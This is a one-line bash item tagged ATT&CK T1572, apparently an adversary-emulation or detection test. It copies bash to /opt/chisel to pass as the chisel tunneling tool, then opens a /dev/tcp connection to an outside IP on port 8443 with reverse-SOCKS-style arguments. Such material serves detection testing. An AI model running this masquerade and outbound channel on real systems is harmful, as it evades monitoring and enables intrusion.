# title: A program for tunnels, from /opt, called as such a program is
# technique: T1572
# needs: bash

cp /bin/bash /opt/chisel && /opt/chisel -c 'exec 3<>/dev/tcp/192.88.99.7/8443; :' client 192.88.99.7:8443 R:socks
